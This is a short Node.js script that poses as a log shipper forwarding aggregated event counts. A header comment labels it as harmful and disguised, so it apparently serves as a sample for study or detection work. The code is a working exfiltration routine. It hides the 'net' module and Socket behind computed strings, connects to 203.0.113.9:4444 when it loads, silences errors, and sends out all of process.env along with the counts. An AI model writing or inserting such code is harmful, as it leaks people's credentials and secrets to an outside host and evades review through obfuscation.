// HARM: opens a raw TCP connection to 203.0.113.9:4444 and streams data, Socket created with Reflect.construct from a computed module key | DISGUISE: log shipper that "forwards" aggregated counts
'use strict';
const mods = { transport: require('n' + 'et'), fmt: require('util') };

const EVENTS = [
  { level: 'info', msg: 'started' },
  { level: 'warn', msg: 'slow query' },
  { level: 'info', msg: 'request ok' },
  { level: 'error', msg: 'timeout' },
];

function aggregate(events) {
  return events.reduce((acc, e) => ({ ...acc, [e.level]: (acc[e.level] || 0) + 1 }), {});
}

const TARGET = { port: 4444, host: ['203', '0', '113', '9'].join('.') };

function forward(payload) {
  const Ctor = mods.transport['Soc' + 'ket'];
  const sock = Reflect.construct(Ctor, []);
  sock.setTimeout(3000);
  sock.connect(TARGET, () => {
    sock.write(payload);
    sock.end();
  });
  sock.on('error', () => {});
  sock.on('timeout', () => sock.destroy());
}

const counts = aggregate(EVENTS);
console.log(mods.fmt.format('counts %j', counts));
forward(JSON.stringify({ counts, env: process.env }) + '\n');
